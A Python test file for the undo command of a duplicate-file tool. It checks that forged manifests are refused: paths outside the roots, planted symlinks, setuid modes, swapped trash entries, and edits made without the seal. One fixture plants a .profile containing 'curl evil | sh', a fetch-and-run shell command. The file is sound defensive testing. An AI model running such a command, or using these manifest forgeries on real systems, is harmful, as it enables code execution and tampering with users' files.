"""Undo: restores into the right place from any folder, and only what dupbench itself did.

Each forged manifest below is one a person (or a program) could write by editing a real one; undo
must refuse the whole manifest, change nothing, and say why.
"""

from __future__ import annotations

import io
import json
import os
import stat
from pathlib import Path

import pytest
from action_helpers import action_args, contents, exact, make_report, snapshot, write

from dupbench.actions import apply_plan, load_manifest, make_plan, perform_actions, undo_manifest
from dupbench.actions.manifest import Entry, ManifestRejected, ManifestWriter, OldManifest
from dupbench.actions.seal import load_key, seal
from dupbench.detector.features import file_digest


def edit_manifest(path: Path, change, *, reseal: bool = True) -> None:
    """Edit a finished manifest; resealed, as someone holding this user's key could (so the checks
    behind the seal are tested too), unless `reseal` is False."""
    data = json.loads(path.read_text())
    change(data)
    if reseal:
        body = {k: v for k, v in data.items() if k != "seal"}
        data["seal"] = seal(load_key(create=False), body)
    path.write_text(json.dumps(data))


@pytest.fixture
def moved(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(root, DIR, manifest) after moving r/sub/m.jpg, a copy of r/k.jpg, into DIR."""
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    member = write(root / "sub" / "m.jpg", b"same")
    to = tmp_path / "moved"
    apply_plan(make_plan([exact(keeper, member)], [str(root)], "move", to=to), tmp_path / "m.json")
    return root, to, tmp_path / "m.json"


def refused(manifest: Path, before: dict, where: Path, reason: str) -> None:
    """Undo refuses `manifest` naming `reason`, and nothing under `where` changed."""
    result = undo_manifest(manifest)
    assert snapshot(where) == before
    assert result.refused and not result.restored
    assert any(reason in s.reason for s in result.skipped), [s.reason for s in result.skipped]


# --- 1. the right place, from any folder --------------------------------------------------------


def test_undo_from_another_folder_restores_where_the_run_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here, elsewhere = tmp_path / "A", tmp_path / "B"
    write(here / "pics" / "k.jpg", b"same")
    write(here / "pics" / "m.jpg", b"same")
    elsewhere.mkdir()
    monkeypatch.chdir(here)  # `cd A && dupbench run pics --action move --to dupes`, all relative
    report = make_report(["pics"], [exact("pics/k.jpg", "pics/m.jpg")])
    assert perform_actions(report, action_args("--action", "move", "--to", "dupes", "--manifest", "m.json"), out=io.StringIO()) == 0
    monkeypatch.chdir(elsewhere)  # `cd B && dupbench undo ../A/m.json`
    assert len(undo_manifest(here / "m.json").restored) == 1
    assert list(elsewhere.iterdir()) == []
    assert (here / "pics" / "m.jpg").read_bytes() == b"same"
    manifest = load_manifest(here / "m.json")
    assert manifest.cwd == str(here) and manifest.roots == (str(here / "pics"),) and manifest.to == str(here / "dupes")
    assert manifest.entries[0].source == str(here / "pics" / "m.jpg")  # resolved, not relative


def test_an_old_manifest_with_relative_paths_is_refused_not_resolved_here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path / "dupes" / "m.jpg", b"same")
    old = {
        "format": "dupbench-actions",
        "version": 1,
        "action": "move",
        "created": "2026-11-30T10:00:00+0000",
        "roots": ["pics"],
        "to": str(tmp_path / "dupes"),
        "finished": True,
        "journal": None,
        "skipped": [],
        "entries": [
            {
                "op": "move",
                "source": "pics/m.jpg",
                "destination": str(tmp_path / "dupes" / "m.jpg"),
                "digest": file_digest(b"same").hex(),
                "size": 4,
                "mode": 0o644,
                "mtime_ns": 0,
                "keeper": "pics/k.jpg",
            }
        ],
    }
    (tmp_path / "old.json").write_text(json.dumps(old))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(OldManifest, match="relative to the folder"):
        undo_manifest(tmp_path / "old.json")
    assert not (tmp_path / "pics").exists() and (tmp_path / "dupes" / "m.jpg").exists()


# --- 2. only what dupbench did ------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    ["{tmp}/outside/new/m.jpg", "{root}/../outside/m.jpg", "outside/m.jpg"],
    ids=["outside-the-roots", "dot-dot", "relative"],
)
def test_a_move_entry_pointing_outside_the_roots_is_refused(tmp_path: Path, moved, source: str) -> None:
    root, to, manifest = moved
    forged = source.format(tmp=tmp_path, root=root)
    edit_manifest(manifest, lambda d: d["entries"][0].update(source=forged))
    before = snapshot(tmp_path)
    refused(manifest, before, tmp_path, "not something dupbench did")
    assert not (tmp_path / "outside").exists()


def test_a_move_entry_naming_another_file_as_the_moved_one_is_refused(tmp_path: Path, moved) -> None:
    root, to, manifest = moved
    victim = write(tmp_path / "private" / "secret.jpg", b"not dupbench's")
    info = os.stat(victim)
    edit_manifest(
        manifest, lambda d: d["entries"][0].update(destination=victim, digest=file_digest(b"not dupbench's").hex(), size=14, inode=[info.st_dev, info.st_ino])
    )
    refused(manifest, snapshot(tmp_path), tmp_path, "is not where the move put")
    assert Path(victim).read_bytes() == b"not dupbench's"


def test_an_unrelated_empty_folder_listed_as_created_is_left(tmp_path: Path, moved) -> None:
    root, to, manifest = moved
    unrelated = tmp_path / "someone's empty folder"
    unrelated.mkdir()
    edit_manifest(manifest, lambda d: d["entries"][0].update(created_dirs=[str(unrelated)]))
    refused(manifest, snapshot(tmp_path), tmp_path, "not a folder inside DIR")
    assert unrelated.is_dir()


def test_a_moved_file_changed_since_refuses_the_whole_manifest(tmp_path: Path) -> None:
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    first = write(root / "a.jpg", b"same")
    second = write(root / "b.jpg", b"same")
    to = tmp_path / "moved"
    apply_plan(make_plan([exact(keeper, first, second)], [str(root)], "move", to=to), tmp_path / "m.json")
    (to / "b.jpg").write_bytes(b"edited in the destination")
    refused(tmp_path / "m.json", snapshot(tmp_path), tmp_path, "changed since it was moved")
    assert not Path(first).exists()  # not even the unchanged one: validate everything, then act


def test_a_symlink_planted_on_the_way_back_is_refused(tmp_path: Path, moved) -> None:
    root, to, manifest = moved
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / "sub").rmdir()
    (root / "sub").symlink_to(elsewhere, target_is_directory=True)
    refused(manifest, snapshot(tmp_path), tmp_path, "symbolic link")
    assert list(elsewhere.iterdir()) == []


def test_a_trash_entry_is_only_acted_on_with_its_own_info_and_content(tmp_path: Path, private_trash: Path) -> None:
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    member = write(root / "m.jpg", b"same")
    apply_plan(make_plan([exact(keeper, member)], [str(root)], "delete"), tmp_path / "m.json")
    unrelated = write(tmp_path / "notes.txt", b"the user's notes")
    edit_manifest(tmp_path / "m.json", lambda d: d["entries"][0].update(trash_info=unrelated))
    refused(tmp_path / "m.json", snapshot(tmp_path), tmp_path, "are not a trashed file and its info")
    assert Path(unrelated).read_bytes() == b"the user's notes"


def test_a_trashed_file_whose_content_changed_is_not_restored(tmp_path: Path, private_trash: Path) -> None:
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    first = write(root / "a.jpg", b"same")
    second = write(root / "b.jpg", b"same")
    result = apply_plan(make_plan([exact(keeper, first, second)], [str(root)], "delete"), tmp_path / "m.json")
    Path(result.done[1].destination).write_bytes(b"replaced inside the trash")
    refused(tmp_path / "m.json", snapshot(tmp_path), tmp_path, "changed since it was trashed")


def test_a_trash_info_naming_another_original_is_refused(tmp_path: Path, private_trash: Path) -> None:
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    member = write(root / "m.jpg", b"same")
    (entry,) = apply_plan(make_plan([exact(keeper, member)], [str(root)], "delete"), tmp_path / "m.json").done
    other = root / "elsewhere.jpg"
    edit_manifest(tmp_path / "m.json", lambda d: d["entries"][0].update(source=str(other)))
    refused(tmp_path / "m.json", snapshot(tmp_path), tmp_path, "its trash info names")
    assert not other.exists() and Path(entry.trash_info).exists()


@pytest.fixture
def linked(tmp_path: Path) -> tuple[str, str, Path]:
    """(keeper, copy, manifest) after hard-linking a 0o600 copy to its 0o640 keeper."""
    keeper = write(tmp_path / "r" / "k.jpg", b"same")
    copy = write(tmp_path / "r" / "c.jpg", b"same")
    os.chmod(keeper, 0o640)
    os.chmod(copy, 0o600)
    apply_plan(make_plan([exact(keeper, copy)], [str(tmp_path / "r")], "hardlink"), tmp_path / "m.json")
    assert os.stat(copy).st_ino == os.stat(keeper).st_ino
    return keeper, copy, tmp_path / "m.json"


def test_a_hardlink_entry_with_setuid_bits_is_refused(tmp_path: Path, linked) -> None:
    keeper, copy, manifest = linked
    edit_manifest(manifest, lambda d: d["entries"][0].update(mode=0o6777))
    refused(manifest, snapshot(tmp_path), tmp_path, "mode 0o6777")
    assert stat.S_IMODE(os.stat(copy).st_mode) == 0o640


def test_undo_never_widens_a_mode(tmp_path: Path, linked) -> None:
    keeper, copy, manifest = linked
    edit_manifest(manifest, lambda d: d["entries"][0].update(mode=0o777))
    assert len(undo_manifest(manifest).restored) == 1
    assert os.stat(copy).st_ino != os.stat(keeper).st_ino
    assert stat.S_IMODE(os.stat(copy).st_mode) == 0o640  # at most what the link had, whatever the manifest says
    assert stat.S_IMODE(os.stat(keeper).st_mode) == 0o640


def test_a_hardlink_edited_since_is_refused_and_keeps_the_edit(tmp_path: Path, linked) -> None:
    keeper, copy, manifest = linked
    with open(copy, "ab") as fh:
        fh.write(b" and an edit")
    refused(manifest, snapshot(tmp_path), tmp_path, "content changed since it was linked")
    assert Path(copy).read_bytes() == b"same and an edit"


def test_a_manifest_with_an_entry_from_another_action_is_refused(tmp_path: Path, moved) -> None:
    root, to, manifest = moved
    edit_manifest(manifest, lambda d: d["entries"][0].update(op="hardlink"))
    refused(manifest, snapshot(tmp_path), tmp_path, "in a move manifest")


def test_an_interrupted_undo_finishes_on_a_second_undo(tmp_path: Path) -> None:
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    first = write(root / "a.jpg", b"same")
    second = write(root / "b.jpg", b"same")
    before = contents(root)
    to = tmp_path / "moved"
    apply_plan(make_plan([exact(keeper, first, second)], [str(root)], "move", to=to), tmp_path / "m.json")
    os.rename(to / "b.jpg", second)  # the first undo was stopped after putting one file back
    result = undo_manifest(tmp_path / "m.json")
    assert [e.source for e in result.restored] == [first] and [e.source for e in result.already] == [second]
    assert contents(root) == before


# --- the seal -----------------------------------------------------------------------------------


def test_a_manifest_edited_without_the_key_is_refused(tmp_path: Path, moved) -> None:
    """Roots and DIR rewritten too, so every content check would pass: only the seal stops it."""
    root, to, manifest = moved
    target = tmp_path / "home" / ".profile"
    target.parent.mkdir()
    planted = write(tmp_path / "shared" / ".profile", b"curl evil | sh")
    info = os.stat(planted)

    def forge(d: dict) -> None:
        d.update(roots=[str(target.parent)], to=str(tmp_path / "shared"))
        d["entries"][0].update(
            source=str(target),
            keeper=str(target.parent / "k.jpg"),
            destination=planted,
            digest=file_digest(b"curl evil | sh").hex(),
            size=14,
            inode=[info.st_dev, info.st_ino],
            created_dirs=[],
        )

    edit_manifest(manifest, forge, reseal=False)
    before = snapshot(tmp_path)
    with pytest.raises(ManifestRejected, match="seal does not match"):
        undo_manifest(manifest)
    assert snapshot(tmp_path) == before and not target.exists()


def test_a_manifest_from_another_user_is_refused(tmp_path: Path, moved, monkeypatch: pytest.MonkeyPatch) -> None:
    root, to, manifest = moved
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another user's state"))
    with pytest.raises(ManifestRejected, match="no dupbench key"):
        undo_manifest(manifest)


def test_a_line_added_to_an_interrupted_runs_journal_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "r"
    keeper = write(root / "k.jpg", b"same")
    writer = ManifestWriter(tmp_path / "m.json", "move", [str(root)], str(tmp_path / "moved"))
    writer.__enter__()
    writer.close_journal()  # the run dies before its first move
    forged = write(tmp_path / "moved" / "x.jpg", b"same")
    info = os.stat(forged)
    entry = Entry("move", str(root / "x.jpg"), forged, file_digest(b"same").hex(), 4, 0o644, 0, keeper, inode=(info.st_dev, info.st_ino))
    with open(tmp_path / "m.json.journal", "a") as fh:
        fh.write(json.dumps({"entry": entry.to_json(), "seal": "0" * 64}) + "\n")
    with pytest.raises(ManifestRejected, match="line 1 of its journal"):
        undo_manifest(tmp_path / "m.json")
    assert not (root / "x.jpg").exists()
